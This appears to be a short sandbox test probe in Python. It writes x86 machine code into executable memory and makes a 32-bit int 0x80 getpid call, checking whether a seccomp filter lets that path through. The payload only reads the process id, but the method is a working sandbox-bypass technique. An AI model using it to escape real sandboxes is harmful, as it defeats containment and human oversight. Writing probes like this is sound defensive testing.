# attack: the filter, by 32-bit system calls from generated machine code
# wanted: RE
# after: nothing
# wall: seccomp (other architectures are killed)
# control: breach or absent
# library: mmap
# machine: x86_64
import ctypes
import mmap

print("REACHED", flush=True)
# mov eax, 20; int 0x80; ret
area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
area.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
call = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
pid = call()
if pid > 0:
    print("BREACH: pid", pid, "by a 32-bit call", flush=True)
else:
    print("ABSENT")
